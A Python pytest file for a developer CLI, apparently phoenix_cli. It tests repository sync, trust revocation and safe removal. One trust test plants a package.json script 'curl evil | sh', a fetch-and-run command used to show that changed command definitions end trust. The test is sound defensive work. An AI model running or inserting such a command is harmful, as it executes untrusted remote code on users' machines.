from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from phoenix_cli.ecosystem import trust
from phoenix_cli.ecosystem.knowledge import known
from phoenix_cli.ecosystem.repositories import find
from phoenix_cli.kernel.errors import Conflict, NotFound, Refused
from tests.ecosystem.importing import World
from tests.vcs.repos import commit, make_repo, plain_git, write


def node(**scripts: str) -> dict[str, str]:
    return {"package.json": json.dumps({"name": "app", "scripts": scripts})}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    made = World(tmp_path)
    yield made
    made.close()


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "app", node(test="vitest", build="tsc"))


def test_tells_what_changed(world: World, source: Path) -> None:
    one = world.one(source)
    new = commit(source, {**node(test="jest", dev="vite"), "Makefile": "all:\n\techo all\n"})
    (synced,) = world.sync("app").items
    assert (synced.status, synced.before, synced.commit, synced.components) == ("updated", one.commit, new, 2)
    assert "npm:dev" in synced.commands.added and "make:all" in synced.commands.added
    assert "npm:build" in synced.commands.removed
    here = find(world.app.state, "app")
    assert (here.commit, here.updated_at > here.imported_at) == (new, True)
    assert ("ecosystem.sync", "ok") in world.events()
    assert world.sync().items[0].status == "unchanged"


def test_a_change_of_what_defines_commands_ends_the_trust(world: World, source: Path) -> None:
    one = world.one(source)
    app, here = world.app, find(world.app.state, "app")
    found = known(Path(one.path), state=app.state, git=app.git, clock=app.clock)
    trust.give(state=app.state, events=app.events, clock=app.clock, repository=here, detection=found, level="trusted")
    commit(source, {"README": "x"})
    assert world.sync("app").items[0].untrusted_by == ()
    assert trust.trust_of(app.state, here).level == "trusted"
    commit(source, node(test="curl evil | sh"))
    assert world.sync("app").items[0].untrusted_by == ("package.json",)
    assert trust.trust_of(app.state, here).level == "inspect"


def test_one_that_cannot_be_synced_does_not_stop_the_others(world: World, tmp_path: Path) -> None:
    sources = [make_repo(tmp_path / name, {"a": "1"}) for name in ("clean", "dirty", "gone", "own")]
    world.bring(*sources)
    for one in sources:
        commit(one, {"a": "2"})
    here = {name: find(world.app.state, name).path for name in ("clean", "dirty", "gone", "own")}
    (here["dirty"] / "a").write_text("mine")
    commit(here["own"], {"b": "mine"})
    shutil.rmtree(here["gone"])
    result = world.sync()
    assert [one.name for one in result.items] == ["clean"]
    assert {one.source: one.error.code for one in result.failed} == {
        "dirty": "ecosystem.uncommitted", "gone": "ecosystem.folder_gone", "own": "ecosystem.diverged",
    }  # fmt: skip
    assert result.error is not None and (here["dirty"] / "a").read_text() == "mine"


def test_an_unknown_word(world: World, source: Path) -> None:
    world.one(source)
    with pytest.raises(NotFound) as caught:
        world.sync("ap")
    assert "did you mean app?" in caught.value.hints
    assert world.sync().items and not World(world.root / "empty").sync().items


def test_what_the_user_did_with_git_meanwhile_is_noticed(world: World, source: Path) -> None:
    one = world.one(source)
    new = commit(source, {"x": "1"})
    plain_git(Path(one.path), "pull", "-q")
    assert (world.sync("app").items[0].status, find(world.app.state, "app").commit) == ("updated", new)


def test_remove_takes_everything_away(world: World, source: Path) -> None:
    one = world.one(source)
    plan = world.remove("app", dry_run=True)
    assert plan.deleted and world.names() == ["app"]
    removed = world.remove(one.id[:10])
    assert (removed.id, removed.deleted, world.names(), world.folders()) == (one.id, True, [], [])
    assert not (world.app.home.repos / "local").exists() and source.exists()
    assert world.app.state.read("SELECT * FROM import_journal") == []
    assert ("ecosystem.remove", "ok") in world.events()
    assert world.one(source).status == "imported"


def test_remove_refuses_what_would_lose_work(world: World, source: Path) -> None:
    path = Path(world.one(source).path)

    def refused(says: str) -> None:
        with pytest.raises(Refused, match=says) as caught:
            world.remove("app")
        assert caught.value.code == "ecosystem.in_use" and path.exists() and world.names() == ["app"]

    write(path, {"new": "mine"})
    refused("0 changed and 1 new files")
    commit(path, {})
    refused("1 commits are only here")
    plain_git(path, "reset", "-q", "--hard", "origin/main")
    world.remove("app", dry_run=True)
    write(path, {"package.json": "{}"})
    plain_git(path, "stash", "-q")
    refused("stashes")
    assert world.remove("app", force=True).deleted and not path.exists()


def test_remove_refuses_what_runs(world: World, source: Path) -> None:
    import os

    from phoenix_cli.kernel import processes

    one = world.one(source)
    me = processes.identify(os.getpid())
    assert me is not None
    with world.app.state.write() as connection:
        connection.execute(
            "INSERT INTO runs (id, repo_id, command, role, argv, dir, level, status, started_at, log, pid, started, boot_id)"
            " VALUES ('run_1', ?, 'npm:dev', 'dev', '[]', '', 'trusted', 'running', 'now', '', ?, ?, ?)",
            (one.id, me.pid, me.started, me.boot_id),
        )
    with pytest.raises(Refused, match="npm:dev is running"):
        world.remove("app")


def test_remove_with_a_git_that_cannot_tell(world: World, source: Path) -> None:
    path = Path(world.one(source).path)
    (path / ".git/HEAD").write_text("nonsense")
    with pytest.raises(Refused, match="git cannot tell"):
        world.remove("app")
    assert world.remove("app", force=True).deleted


def test_remove_when_the_folder_is_gone_or_a_link(world: World, source: Path, tmp_path: Path) -> None:
    shutil.rmtree(world.one(source).path)
    assert world.remove("app").deleted and world.names() == []
    path = Path(world.one(source).path)
    path.rename(tmp_path / "moved")
    path.symlink_to(tmp_path / "moved")
    world.remove("app", force=True)
    assert (tmp_path / "moved/package.json").exists() and not path.is_symlink()


def test_remove_never_deletes_a_folder_of_somebody_else(world: World, source: Path, tmp_path: Path) -> None:
    one = world.one(source)
    mine = make_repo(tmp_path / "mine")
    with world.app.state.write() as connection:
        connection.execute("UPDATE repos SET path = ? WHERE id = ?", (str(mine), one.id))
    assert not world.remove("app", force=True).deleted
    assert (mine / "Makefile").exists() and world.names() == []


def test_remove_that_was_killed_is_finished_by_the_next(
    world: World, source: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from phoenix_cli.ecosystem import removing

    world.one(source)

    class Killed(BaseException):
        pass

    def die(*_: object) -> None:
        raise Killed

    monkeypatch.setattr(removing, "_delete", die)
    with pytest.raises(Killed):
        world.remove("app")
    monkeypatch.undo()
    assert world.names() == [] and world.folders() == ["local/app"]
    world.sync()
    assert world.folders() == []
    assert world.app.state.read("SELECT * FROM import_journal") == []


def test_read_only_folders_are_deleted_too(world: World, source: Path) -> None:
    path = Path(world.one(source).path)
    (path / "cache/mod").mkdir(parents=True)
    (path / "cache/mod/file").touch()
    for folder in (path / "cache/mod", path / "cache"):
        folder.chmod(0o500)
    assert world.remove("app", force=True).deleted and not path.exists()


def test_an_update_to_another_branch_is_a_conflict(world: World, source: Path) -> None:
    world.one(source)
    assert isinstance(world.failure(source, update=True, branch="v2"), Conflict)
